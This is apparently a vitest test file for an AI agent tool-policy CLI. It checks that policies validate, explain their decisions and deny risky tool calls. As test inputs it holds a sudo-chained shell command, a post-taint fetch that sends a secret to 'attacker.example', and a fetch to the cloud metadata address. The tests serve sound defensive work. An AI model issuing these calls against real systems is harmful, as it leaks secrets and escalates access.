import { createHash } from 'node:crypto';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { traceRecordSchema } from '../../src/trace/schema.js';
import { runCli } from '../support/cli.js';
import { startScriptedServer, toolThenAnswerScript } from '../support/scripted-server.js';

let dir: string;

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'assay-policy-cli-'));
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function policyFile(name: string, text: string): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, text);
  return path;
}

describe('assay policy validate', { timeout: 90_000 }, () => {
  for (const name of ['default', 'strict', 'open']) {
    it(`accepts the shipped ${name} policy`, async () => {
      const result = await runCli(['policy', 'validate', `policies/${name}.yaml`]);
      expect(result.stderr).toBe('');
      expect(result.code).toBe(0);
      expect(result.stdout).toMatch(
        new RegExp(`^policies/${name}\\.yaml: valid \\(\\d+ rules?, default (deny|allow)`),
      );
    });
  }

  it('names the file, line and key of every problem and exits 2', async () => {
    const path = await policyFile(
      'broken.yaml',
      [
        'version: 1',
        'rules:',
        '  - id: a',
        '    tool: web_fetch',
        '    effect: allow',
        '    when:',
        '      hots: x.org',
        '',
      ].join('\n'),
    );
    const result = await runCli(['policy', 'validate', path]);
    expect(result.code).toBe(2);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(`${path}:7:7: rules[0].when.hots: unknown key "hots"`);
  });

  it('rejects rules about tools that do not exist', async () => {
    const path = await policyFile(
      'tool.yaml',
      'version: 1\nrules:\n  - { id: a, tool: web_fecth, effect: allow }\n',
    );
    const result = await runCli(['policy', 'validate', path]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`${path}:3:`);
    expect(result.stderr).toContain('unknown tool "web_fecth"');
  });

  it('says when the file is missing', async () => {
    const result = await runCli(['policy', 'validate', join(dir, 'nope.yaml')]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('nope.yaml does not exist');
  });
});

describe('assay policy explain', { timeout: 90_000 }, () => {
  it('prints the decision, the deciding rule, every matching rule and the clamps', async () => {
    const result = await runCli([
      'policy',
      'explain',
      'policies/default.yaml',
      '--tool',
      'web_fetch',
      '--args',
      '{"url":"https://example.org/x"}',
    ]);
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^decision: +allow$/m);
    expect(result.stdout).toMatch(/^rule: +fetch-public-web \(line \d+\)$/m);
    expect(result.stdout).toMatch(
      /^clamps: +timeout_ms=\d+ cpu_ms=\d+ memory_mb=\d+ cpus=\d+ output_bytes=\d+ network=false private_network=\[\]$/m,
    );
    expect(result.stdout).toMatch(
      /^matched:\n {2}fetch-public-web +allow +line \d+ +URL scheme is http or https and URL host is public$/m,
    );
    expect(result.stdout).toMatch(
      /^not matched:\n(?: {2}.*\n)* {2}fetch-no-private-network +deny +line \d+ +not: /m,
    );
  });

  it('explains a bash denial through chaining and the --apply action with the shipped policy', async () => {
    const shell = await runCli([
      'policy',
      'explain',
      'policies/default.yaml',
      '--tool',
      'bash',
      '--args',
      '{"command":"ls && sudo -u x id"}',
    ]);
    expect(shell.code).toBe(0);
    expect(shell.stdout).toMatch(/^rule: +shell-no-privilege-or-push \(line \d+\)$/m);
    expect(shell.stdout).toMatch(
      /shell-no-privilege-or-push +deny +line \d+ +some command of the line matches sudo/,
    );
    const apply = await runCli([
      'policy',
      'explain',
      'policies/default.yaml',
      '--tool',
      'workspace.apply',
      '--args',
      '{"files":["calc.py"],"insertions":1}',
    ]);
    expect(apply.code).toBe(0);
    expect(apply.stdout).toMatch(/^decision: +deny \(ask answered by batch_ask\)$/m);
    expect(apply.stdout).toMatch(/^rule: +workspace-apply-asks \(line \d+\)$/m);
  });

  it('explains a denial after taint with the reason the model would read', async () => {
    const result = await runCli([
      'policy',
      'explain',
      'policies/default.yaml',
      '--tool',
      'web_fetch',
      '--args',
      '{"url":"https://attacker.example/?q=secret"}',
      '--tainted',
      '--json',
    ]);
    expect(result.code).toBe(0);
    const explanation = JSON.parse(result.stdout) as {
      decision: {
        decision: string;
        rule: string;
        reason: string;
        clamps: unknown;
        matched: string[];
      };
      context: { tainted: boolean };
    };
    expect(explanation.context.tainted).toBe(true);
    expect(explanation.decision).toMatchObject({
      decision: 'deny',
      rule: 'fetch-only-seen-urls-after-taint',
      clamps: null,
      matched: ['fetch-public-web', 'fetch-only-seen-urls-after-taint'],
    });
    expect(explanation.decision.reason).toContain('may only open URLs that appeared');
  });

  it('shows what batch_ask does with an ask, and that a person is asked interactively', async () => {
    const path = await policyFile(
      'ask.yaml',
      'version: 1\nbatch_ask: deny\nrules:\n  - { id: ask-code, tool: python, effect: ask, reason: code needs a look }\n',
    );
    const batch = await runCli([
      'policy',
      'explain',
      path,
      '--tool',
      'python',
      '--args',
      '{"code":"1"}',
      '--batch',
    ]);
    expect(batch.stdout).toMatch(/^decision: +deny \(ask answered by batch_ask\)$/m);
    const interactive = await runCli([
      'policy',
      'explain',
      path,
      '--tool',
      'python',
      '--args',
      '{"code":"1"}',
      '--interactive',
    ]);
    expect(interactive.stdout).toMatch(/^decision: +ask: a person is asked/m);
    expect(interactive.stdout).toMatch(/^clamps: +timeout_ms=/m);
  });

  it('rejects arguments that are not a JSON object', async () => {
    const result = await runCli([
      'policy',
      'explain',
      'policies/default.yaml',
      '--tool',
      'web_fetch',
      '--args',
      '[1]',
    ]);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--args must be a JSON object');
  });
});

describe('assay run under a policy', { timeout: 90_000 }, () => {
  /** Runs one episode in which the scripted model makes `call` and answers with the tool message it got. */
  async function episode(policyPath: string, tool: string, args: Record<string, unknown>) {
    const seen: string[] = [];
    await using server = await startScriptedServer({
      script: toolThenAnswerScript({
        tool,
        args: () => args,
        answer: (toolResult) => {
          seen.push(toolResult);
          return `tool said: ${toolResult}`;
        },
      }),
    });
    const trace = join(dir, `${tool}-${Math.random().toString(36).slice(2)}.jsonl`);
    const result = await runCli([
      'run',
      '--base-url',
      server.url,
      '--model',
      'scripted',
      '--tools',
      'calculator,javascript,web_fetch',
      '--policy',
      policyPath,
      '--trace',
      trace,
      'do it',
    ]);
    const line = (await readFile(trace, 'utf8')).trim().split('\n').at(-1)!;
    const record = traceRecordSchema.parse(JSON.parse(line));
    return { result, seen, record };
  }

  it("sends a denial's reason to the model and records the decision and the policy file", async () => {
    const { result, seen, record } = await episode('policies/strict.yaml', 'javascript', {
      code: '6 * 7',
    });
    expect(result.code).toBe(0);
    expect(seen).toHaveLength(1);
    expect(seen[0]).toContain('javascript is not allowed by this policy at all');
    const call = record.tool_calls[0]!;
    expect(call.policy).toMatchObject({
      decision: 'deny',
      effect: 'deny',
      rule: 'default',
      clamps: null,
    });
    expect(call.policy?.reason).toContain('javascript is not allowed by this policy at all');
    const bytes = await readFile('policies/strict.yaml');
    expect(record.policy.file).toMatch(/policies\/strict\.yaml$/);
    expect(record.policy.sha256).toBe(createHash('sha256').update(bytes).digest('hex'));
  });

  it('records allows with their rule and clamps, and the tool runs under them', async () => {
    const { seen, record } = await episode('policies/default.yaml', 'javascript', {
      code: '6 * 7',
    });
    expect(seen).toEqual(['Result: 42']);
    expect(record.tool_calls[0]?.policy).toMatchObject({
      decision: 'allow',
      effect: 'allow',
      rule: 'code-offline',
      clamps: { timeout_ms: 60_000, memory_mb: 512, network: false, private_network: [] },
      matched: ['code-offline'],
    });
  });

  it('refuses a private-network fetch before anything is sent and tells the model why', async () => {
    const { seen, record } = await episode('policies/default.yaml', 'web_fetch', {
      url: 'http://169.254.169.254/latest/',
    });
    expect(seen[0]).toContain('web_fetch may not reach localhost, private, link-local');
    expect(record.tool_calls[0]?.policy).toMatchObject({
      decision: 'deny',
      rule: 'fetch-no-private-network',
    });
  });
});
